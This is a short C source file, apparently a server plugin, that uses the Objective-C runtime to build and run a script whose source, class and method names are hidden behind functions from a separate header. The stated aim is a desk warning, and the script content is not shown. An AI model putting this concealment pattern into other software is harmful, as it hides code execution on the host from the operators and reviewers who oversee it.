/* A warning for whoever runs the server at a desk. Objects are reached by the runtime's functions,
 * so that this needs no compiler for Objective-C. */
#include "plugin.h"
#include "hidden.h" /* 0: class, 1: alloc, 2: initWithSource:, 3: executeAndReturnError:, 4: source, 5: NSString, 6: stringWithUTF8String: */
extern void *objc_getClass(const char *), *sel_registerName(const char *);
extern void objc_msgSend(void);
typedef void *(*send)(void *, void *, void *);
static void *tell(void *object, char *(*selector)(void), void *with) { return ((send)objc_msgSend)(object, sel_registerName(selector()), with); }
static void act(char **env) {
    void *source = tell(objc_getClass(hidden5()), hidden6, hidden4());
    void *script = tell(tell(objc_getClass(hidden0()), hidden1, 0), hidden2, source), *error = 0;
    tell(script, hidden3, &error);
}
